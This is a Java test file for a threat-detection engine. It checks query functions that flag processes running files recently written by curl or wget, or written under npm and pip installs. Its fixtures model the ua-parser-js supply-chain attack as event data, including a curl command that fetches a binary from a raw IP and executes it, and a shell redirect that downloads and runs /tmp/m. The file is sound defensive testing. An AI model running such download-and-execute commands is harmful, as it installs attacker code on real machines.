package dev.hookline.rules;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.hookline.alert.Alert;
import dev.hookline.kql.KqlException;
import dev.hookline.kql.eval.Kql;
import dev.hookline.schema.Columns;
import dev.hookline.schema.Event;
import dev.hookline.schema.Table;
import java.lang.management.ManagementFactory;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * hookline_recently_written_by() and hookline_recently_written_below() as `hookline detect` runs them: the events
 * file's own DeviceFileEvents feed the index, in file order, and its processes give the writer's ancestry.
 */
class RecentlyWrittenFunctionsFollowTheWriterTest {
    static final long S = 1_000_000_000L;
    static final long T0 = 1_700_000_000L * S;

    static Event proc(long t, long pid, String name, String path, String cmd, long ppid, String parent, String pcmd) {
        return new Event(Table.DeviceProcessEvents).setTime(Columns.TIMESTAMP, t).set(Columns.ACTION_TYPE, "ProcessCreated")
                .set(Columns.PROCESS_ID, pid).set(Columns.FILE_NAME, name).set(Columns.FOLDER_PATH, path)
                .set(Columns.PROCESS_COMMAND_LINE, cmd).set(Columns.INITIATING_PROCESS_ID, ppid)
                .set(Columns.INITIATING_PROCESS_FILE_NAME, parent).set(Columns.INITIATING_PROCESS_COMMAND_LINE, pcmd);
    }

    static Event write(long t, String action, String path, long pid, String name, String cmd, long ppid, String parent) {
        Event e = new Event(Table.DeviceFileEvents).setTime(Columns.TIMESTAMP, t).set(Columns.ACTION_TYPE, action)
                .set(Columns.FOLDER_PATH, path).set(Columns.FILE_NAME, path.substring(path.lastIndexOf('/') + 1))
                .set(Columns.INITIATING_PROCESS_ID, pid).set(Columns.INITIATING_PROCESS_FILE_NAME, name)
                .set(Columns.INITIATING_PROCESS_COMMAND_LINE, cmd);
        if (ppid > 0) {
            e.set(Columns.INITIATING_PROCESS_PARENT_ID, ppid).set(Columns.INITIATING_PROCESS_PARENT_FILE_NAME, parent);
        }
        return e;
    }

    private static List<Long> detect(String query, Event... events) throws Exception {
        Rule r = new RuleLoader().parse("t", query, "t.kql");
        EventAncestry a = new EventAncestry();
        List<Long> pids = new ArrayList<>();
        Detector d = new Detector(List.of(r), Tuning.NONE, (Alert al) -> pids.add(al.event().getLong(Columns.PROCESS_ID)), a);
        for (Event e : events) {
            a.observe(e);
            d.accept(e, T0 + 3600 * S);
        }
        return pids;
    }

    static final String BY = "DeviceProcessEvents | where hookline_recently_written_by(FolderPath, 10m,"
            + " dynamic(['curl', 'wget']))";
    static final String BELOW = "DeviceProcessEvents | where hookline_recently_written_below(FolderPath, 10m, 6,"
            + " dynamic(['npm', 'pip']), dynamic(['npm install', 'pip install']))";

    /** npm (node, 100) → sh (101) → sh preinstall.sh (102) → curl (103) writes ./jsextension; sh runs it (104). */
    static Event[] uaParser(long execDelay) {
        return new Event[] {
            proc(T0, 100, "node", "/usr/bin/node", "node /usr/bin/npm install ua-parser-js", 90, "bash", "bash"),
            proc(T0 + S, 101, "sh", "/usr/bin/sh", "sh -c sh preinstall.sh", 100, "node", "node /usr/bin/npm install ua-parser-js"),
            proc(T0 + 2 * S, 102, "sh", "/usr/bin/sh", "sh preinstall.sh", 101, "sh", "sh -c sh preinstall.sh"),
            proc(T0 + 3 * S, 103, "curl", "/usr/bin/curl", "curl http://159.148.186.228/download/jsextension -o jsextension",
                    102, "sh", "sh preinstall.sh"),
            write(T0 + 3 * S, "FileCreated", "/p/node_modules/ua-parser-js/jsextension", 103, "curl",
                    "curl http://159.148.186.228/download/jsextension -o jsextension", 102, "sh"),
            proc(T0 + 4 * S + execDelay, 104, "jsextension", "/p/node_modules/ua-parser-js/jsextension",
                    "./jsextension -k --tls", 102, "sh", "sh preinstall.sh"),
        };
    }

    @Test
    void byMatchesTheWritersNameOrCommandLine() throws Exception {
        assertEquals(List.of(104L), detect(BY, uaParser(0)));
        // a shell redirect: the shell wrote the file, its command line names curl
        Event[] redirect = {
            write(T0, "FileCreated", "/tmp/m", 50, "sh", "sh -c curl -s http://x/m > /tmp/m", 0, null),
            proc(T0 + S, 51, "m", "/tmp/m", "/tmp/m", 49, "sh", "sh"),
        };
        assertEquals(List.of(51L), detect(BY, redirect));
        Event[] vim = {
            write(T0, "FileCreated", "/home/dev/run.sh", 50, "vim", "vim run.sh", 0, null),
            proc(T0 + S, 51, "run.sh", "/home/dev/run.sh", "./run.sh", 49, "bash", "bash"),
        };
        assertEquals(List.of(), detect(BY, vim));
    }

    @Test
    void belowWalksTheWritersAncestryNotTheExecutedProcesss() throws Exception {
        // curl's parent sh ← sh ← node "npm install": npm install is three levels above the writer
        assertEquals(List.of(104L), detect(BELOW, uaParser(0)));
        // npm itself writing a file (a package's bin) is level 0 and does not count
        Event[] npmWrites = {
            write(T0, "FileCreated", "/p/node_modules/esbuild/bin/esbuild", 100, "node", "node /usr/bin/npm install", 90, "bash"),
            proc(T0 + S, 105, "esbuild", "/p/node_modules/esbuild/bin/esbuild", "esbuild --version", 90, "bash", "bash"),
        };
        assertEquals(List.of(), detect(BELOW, npmWrites));
    }

    @Test
    void outsideTheWindowOrBeforeTheWriteNothingFires() throws Exception {
        assertEquals(List.of(), detect(BY, uaParser(601 * S)));
        Event[] all = uaParser(0);
        // the exec placed before the write in the file: offline order is the file's order
        Event[] swapped = {all[0], all[1], all[2], all[3], all[5], all[4]};
        assertEquals(List.of(), detect(BY, swapped));
        // deleted and recreated by someone else
        Event[] deleted = {all[4], write(T0 + 3 * S + 1, "FileDeleted", "/p/node_modules/ua-parser-js/jsextension", 9,
                "rm", "rm jsextension", 0, null), all[5]};
        assertEquals(List.of(), detect(BY, deleted));
    }

    @Test
    void argumentsAreCheckedAtCompileTime() {
        assertTrue(err("DeviceProcessEvents | where hookline_recently_written_by(FolderPath, 2h, 'curl')")
                .contains("at most 1h"));
        assertTrue(err("DeviceProcessEvents | where hookline_recently_written_by(FolderPath, 10m)")
                .contains("takes 3 arguments"));
        assertTrue(err("DeviceProcessEvents | where hookline_recently_written_by(FolderPath, 10m, FileName)")
                .contains("must be constants"));
        assertTrue(err("DeviceProcessEvents | where hookline_recently_written_below(FolderPath, 10m, 0, 'npm', 'npm i')")
                .contains("depth must be 1 to"));
        // like the ancestry functions, they need detection's state: hunting refuses them with line and column
        KqlException e = assertThrows(KqlException.class, () -> Kql.compile(BY).run((t, c) -> { }, 0));
        assertEquals(1, e.line());
        assertTrue(e.getMessage().contains("hookline_recently_written_*()"), e.getMessage());
    }

    private static String err(String q) {
        return assertThrows(KqlException.class, () -> Kql.compile(q)).getMessage();
    }

    private static long allocatedBytes() {
        return ((com.sun.management.ThreadMXBean) ManagementFactory.getThreadMXBean())
                .getThreadAllocatedBytes(Thread.currentThread().getId());
    }

    /** Primitive-backed lineage (pid → pid - 100 up to 1, all "make") so the test measures only the writes side. */
    private static final class ArrayResolver implements dev.hookline.kql.AncestryResolver {
        final dev.hookline.writes.RecentWrites writes = new dev.hookline.writes.RecentWrites(1024, 3600 * S);

        @Override
        public long parentPid(long pid) {
            return pid > 100 ? pid - 100 : Event.NULL;
        }

        @Override
        public String fileName(long pid) {
            return pid > 0 ? "make" : null;
        }

        @Override
        public String commandLine(long pid) {
            return pid > 0 ? "make -j4 test" : null;
        }

        @Override
        public dev.hookline.writes.RecentWrites writes() {
            return writes;
        }
    }

    @Test
    void feedingAndLookingUpAllocateNothing() throws Exception {
        Rule r = new RuleLoader().parse("t", BELOW, "t.kql");
        ArrayResolver a = new ArrayResolver();
        int[] alerts = {0};
        Detector d = new Detector(List.of(r), Tuning.NONE, al -> alerts[0]++, a);
        Event[] writes = new Event[64];
        Event[] execs = new Event[64];
        for (int i = 0; i < 64; i++) {
            writes[i] = write(T0, "FileModified", "/build/out/bin" + i, 500 + i, "ld", "ld -o bin" + i, 400, "make");
            execs[i] = proc(T0 + S, 900, "bin" + i, "/build/out/bin" + i, "./bin" + i, 400, "make", "make test");
        }
        for (int round = 0; round < 2; round++) {
            long before = allocatedBytes();
            for (int i = 0; i < 50_000; i++) {
                Event w = writes[(i * 5) & 63];
                a.writes.observe(w); // a rewrite moves the path to the newest slot, exercising unindex/insert
                d.accept(w, T0 + 2 * S);
                d.accept(execs[(i * 7) & 63], T0 + 2 * S); // found, then a 6-level walk that misses
            }
            long allocated = allocatedBytes() - before;
            if (round == 1) {
                assertTrue(allocated < 64 * 1024, "allocated " + allocated + " bytes");
            }
        }
        assertEquals(0, alerts[0]);
        assertTrue(a.writes.size() == 64);
    }
}
